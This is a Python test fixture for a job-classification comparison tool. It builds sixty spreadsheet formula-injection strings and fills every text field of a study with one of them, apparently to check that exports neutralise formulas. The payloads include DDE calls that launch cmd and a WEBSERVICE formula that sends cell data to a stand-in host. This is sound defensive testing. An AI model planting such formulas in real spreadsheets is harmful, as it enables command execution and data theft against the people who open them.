"""Sixty texts that a program might run as a formula, and a study that has one of them everywhere."""

from dataclasses import replace

from jobcompare.model.compared import Compared
from jobcompare.model.pay import Pay, PaySource
from jobcompare.model.places import Span
from jobcompare.model.record import (
    Attribute,
    Document,
    Evidence,
    Finding,
    Inheritance,
    Jurisdiction,
    Record,
    Section,
    Series,
    Specification,
    SpecifiedClass,
    Statement,
)
from jobcompare.model.requirement import All, AnyOf, Combination, Education, Experience, Licence, Other, Substitution
from jobcompare.model.study import EntityKind, Note, NoteKind
from jobcompare.model.words import (
    Basis,
    EducationLevel,
    FindingKind,
    How,
    PayKind,
    SectionKind,
    Severity,
    Standing,
    StatementKind,
)
from tests.builders import compared_of

_BODIES = (
    "1+1", "SUM(1,2)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example","click")', 'WEBSERVICE("http://x.example/"&A1)',
    'IMPORTXML("http://x.example","//a")', 'DDE("cmd","/C calc","x")', "A1", "'Sheet'!A1", '"a"&"b"',
)  # fmt: skip
_STARTS = ("=", "+", "-", "@", "\t=", "\n=")
PAYLOADS: tuple[str, ...] = tuple(start + body for start in _STARTS for body in _BODIES)


def study_of(payload: str) -> Compared:
    """A comparison of two series in which every text is the payload, one of them ours, so that every sheet has it."""
    records = {payload: record_of(payload), f"{payload} 2": record_of(f"{payload}\u00a0b")}
    compared = compared_of(records, name=payload, ours=f"{payload} 2")
    note = Note(
        id=1,
        entity=EntityKind.COMPARISON,
        entity_id=1,
        field=None,
        kind=NoteKind.QUESTION,
        text=payload,
        by=payload,
        at="2026-01-01",
    )
    return replace(compared, study=replace(compared.study, name=payload), notes=(note,))


def record_of(payload: str) -> Record:
    """A record with the payload in every text."""
    place = (Span(0, len(payload)),)
    return Record(
        format="jobcompare-record/1",
        document=Document(text=payload, file=payload),
        jurisdiction=Jurisdiction(name=payload),
        specification=Specification(title=payload, family=payload, series=Series(name=payload, members=(payload,))),
        classes=tuple(_class(payload, key) for key in ("I", "II")),
        sections=(Section(kind=SectionKind.DEFINITION, heading=payload, text=payload, classes=("I", "II"), places=place),),
        statements=tuple(
            Statement(kind=kind, text=f"{payload}", group=payload, classes=("I", "II") if n % 2 else ("II",), places=place)
            for n, kind in enumerate(StatementKind)
        ),
        evidence=tuple(
            Evidence(field=field, places=place, how=How.LABEL) for field in ("/classes/0/code", "/specification/title")
        ),
        findings=(
            Finding(
                severity=Severity.CHECK, trouble=FindingKind.CODE_ON_TWO_TITLES, field="/classes/0/code", places=place,
                facts={"code": payload, "titles": payload},
            ),
        ),
    )  # fmt: skip


def _class(payload: str, key: str) -> SpecifiedClass:
    ways = AnyOf(
        nodes=(
            All(
                nodes=(
                    Education(level=EducationLevel.BACHELOR, fields=(payload,)),
                    Experience(months_min=24, what=payload, in_class=payload),
                    Licence(name=payload, when=payload),
                    Other(text=payload),
                )
            ),
            Combination(text=payload),
        )
    )
    rate = Pay(
        label=payload, kind=PayKind.RANGE, low=400000, high=500000, basis=Basis.MONTH, effective="2024-07-01", printed=payload,
        source=PaySource(title=payload, row=payload),
    )  # fmt: skip
    return SpecifiedClass(
        key=key, title=f"{payload} {key}", level=len(key), level_label=payload, code=payload, grade=payload,
        bargaining_unit=payload, service=payload, supervision_received=payload, supervision_exercised=payload,
        tracks=(payload,), requirement=ways, standing=Standing.MINIMUM, preferred=Other(text=payload),
        substitutions=(Substitution(text=payload),), pay=(rate,), attributes=(Attribute(name=payload, text=payload),),
        inherits=(Inheritance(source="I", kinds=(StatementKind.KNOWLEDGE,)),) if key == "II" else (),
    )  # fmt: skip
